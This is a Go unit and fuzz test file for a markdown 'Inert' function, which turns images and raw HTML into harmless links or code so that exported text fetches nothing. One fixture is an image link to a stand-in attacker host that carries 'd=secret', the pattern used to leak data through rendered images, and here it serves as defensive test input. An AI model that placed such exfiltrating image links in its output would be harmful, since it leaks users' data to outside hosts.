package markdown

import (
	"strings"
	"testing"
)

// TestInertLeavesNothingToFetch: an export's Markdown, opened in a viewer,
// loads no image and runs no HTML; images become links to the same
// address, and code (Rust's vec![1], an image written in a code span) is
// left as written.
func TestInertLeavesNothingToFetch(t *testing.T) {
	for in, want := range map[string]string{
		"see ![chart](https://attacker.example.invalid/p.png?d=secret) here":     "see [chart](https://attacker.example.invalid/p.png?d=secret) here",
		"![](https://a.example.invalid/x.png)":                                   "[](https://a.example.invalid/x.png)",
		"a ![**bold** alt](https://a.example.invalid/b.png) b":                   "a [**bold** alt](https://a.example.invalid/b.png) b",
		"[![badge](https://a.example.invalid/i.svg)](https://a.example.invalid)": "[[badge](https://a.example.invalid/i.svg)](https://a.example.invalid)",
		"ref ![logo][l]\n\n[l]: https://a.example.invalid/l.png":                 "ref [logo][l]\n\n[l]: https://a.example.invalid/l.png",
		"x <img src=\"https://a.example.invalid/t.gif\"> y":                      "x `<img src=\"https://a.example.invalid/t.gif\">` y",
		"```rust\nlet v = vec![1, 2];\n```":                                      "```rust\nlet v = vec![1, 2];\n```",
		"`![not](an-image.png)` in code":                                         "`![not](an-image.png)` in code",
		"text! [a link](https://example.invalid) and wow![]":                     "text! [a link](https://example.invalid) and wow![]",
		"two ![a](https://a.invalid/1.png)![](https://a.invalid/2.png) here":     "two [a](https://a.invalid/1.png)[](https://a.invalid/2.png) here",
		"![ x <https://a.invalid>![](https://e.invalid/i.png)":                   "![ x <https://a.invalid>[](https://e.invalid/i.png)",
		"[a](<u![>)![](https://e.invalid/i.png)":                                 "[a](<u![>)[](https://e.invalid/i.png)",
		"`![`<https://x.invalid>![](https://e.invalid/i.png)":                    "`![`<https://x.invalid>[](https://e.invalid/i.png)",
	} {
		got := Inert(in)
		if got != want {
			t.Errorf("Inert(%q)\n = %q\nwant %q", in, got, want)
		}
		if imgs := Images(got); len(imgs) != 0 {
			t.Errorf("Inert(%q) still has images %v", in, imgs)
		}
	}
}

// FuzzInert: whatever the text, what Inert returns holds no image and no
// raw HTML for a viewer to load.
func FuzzInert(f *testing.F) {
	for _, s := range []string{"![a](b)", "![](x)![](y)", "[![a](b)](c)", "<img src=x>", "![a ![b](c)](d)", "!![a](b)", "\\![a](b)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := Inert(s)
		if imgs := Images(out); len(imgs) != 0 {
			t.Fatalf("Inert(%q) = %q still has images %v", s, out, imgs)
		}
		if strings.Contains(out, "<") && QuoteHTML(out) != out {
			t.Fatalf("Inert(%q) = %q still has raw HTML", s, out)
		}
	})
}
